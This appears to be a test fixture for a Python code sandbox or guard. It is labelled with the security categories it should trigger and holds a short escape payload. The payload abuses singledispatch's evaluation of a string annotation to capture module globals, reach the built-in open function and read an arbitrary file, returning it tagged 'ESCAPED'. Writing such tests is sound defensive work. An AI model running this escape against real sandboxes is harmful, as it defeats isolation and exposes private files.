# guard: CODE_SECURITY|CODE_RUNTIME
# bare: CODE_SECURITY
# what: singledispatch evaluates the annotation of what it registers
import functools
global kept
kept = []
@functools.singledispatch
def generic(value):
    return value
@generic.register
def _(value: "kept.append(json.dumps.__globals__) or int"):
    return value
return "ESCAPED " + kept[0]["__builtins__"]["open"](inputs["file"]).read()
